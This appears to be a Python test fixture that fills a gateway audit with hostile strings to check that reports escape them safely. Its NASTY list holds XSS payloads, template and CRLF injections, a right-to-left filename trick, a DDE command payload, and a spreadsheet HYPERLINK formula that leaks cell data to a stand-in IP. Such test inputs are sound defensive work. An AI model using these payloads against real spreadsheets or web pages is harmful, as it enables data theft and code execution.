"""An audit whose every text is hostile, for the report tests."""

from collections.abc import Mapping
from typing import Any

from provisioner.model import Audit, Cause, Evidence, Fact, Finding, Gateway, Problem, Role, Status
from tests.report_fixtures import AT, causes, controls, ready

# What a gateway, or somebody who wants to mislead its reader, could send.
NASTY = (
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://192.0.2.1/?leak="&A1,"click")',
    "+44 1669 620\r\nsecond line",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "Meddygfa Tŷ Ŵyl 😀 ‮gnp.exe",
    "{{ 7 * 7 }} {% raw %} ${x} %s {0} [bold]no markup[/bold]",
    "nul \x00 escape \x1b[31m surrogate \ud800 ]]> &amp; </textarea></style></script>",
    "L" * 5_000,
)


def hostile() -> tuple[Audit, dict[str, bool], tuple[Cause, ...]]:
    """Two gateways and an unreadable one, every text of which is hostile."""
    gateways = tuple(
        Gateway(
            name=name, practice=practice, practice_name=f"{text}", address="198.51.100.7", port=5986, path="/wsman",
            role=Role.ACTIVE,
        )
        for name, practice, text in (
            ("GW-1", "A81001", NASTY[0]), ("GW-2", "A81002", NASTY[6]), ("GW-3", "A81004", "=1+1"),
        )
    )  # fmt: skip
    one, two, *_ = controls()
    asked = (one, two, *(control for control in controls() if control.id in ("R3-dedicated", "R4-restart", "R14-rule")))
    statuses = (Status.FAILED, Status.WAIVED, Status.UNKNOWN, Status.FAILED, Status.PASSED)
    findings = [
        Finding(
            gateway=gateway.name,
            practice=gateway.practice,
            control=control.id,
            status=Status.ERROR if gateway.name == "GW-3" else status,
            expected=NASTY[(number + 3 * place) % len(NASTY)],
            actual=NASTY[(number + 3 * place + 1) % len(NASTY)],
            message=NASTY[(number + 3 * place + 2) % len(NASTY)],
            cause=NASTY[number % 2],
            value={"x": NASTY},
        )
        for place, gateway in enumerate(gateways)
        for number, (control, status) in enumerate(zip(asked, statuses, strict=True))
    ]
    problem = Problem(kind="BadAnswer", message=f"The answer was {NASTY[0]}", hint=NASTY[8])
    sections: dict[str, Mapping[str, Any]] = {
        "identity": {"computer_name": NASTY[0], NASTY[0]: list(NASTY)},
        NASTY[0]: {},
    }
    evidence = tuple(
        Evidence(
            gateway=gateway.name,
            taken_at=AT,
            seconds=1.25,
            sections={} if gateway.name == "GW-3" else sections,
            section_errors={} if gateway.name == "GW-3" else {"memory": NASTY[0]},
            error=problem if gateway.name == "GW-3" else None,
        )
        for gateway in gateways
    )
    facts = {
        gateway.name: {control.fact: Fact(value=list(NASTY), reason=NASTY[0]) for control in asked}
        for gateway in gateways
    }
    audit = Audit(
        id="a-hostile", at=AT, fleet_digest="f", policy_digest="p", gateways=gateways, controls=asked,
        evidence=evidence, findings=tuple(findings), facts=facts,
    )  # fmt: skip
    return audit, ready(audit), causes(audit)
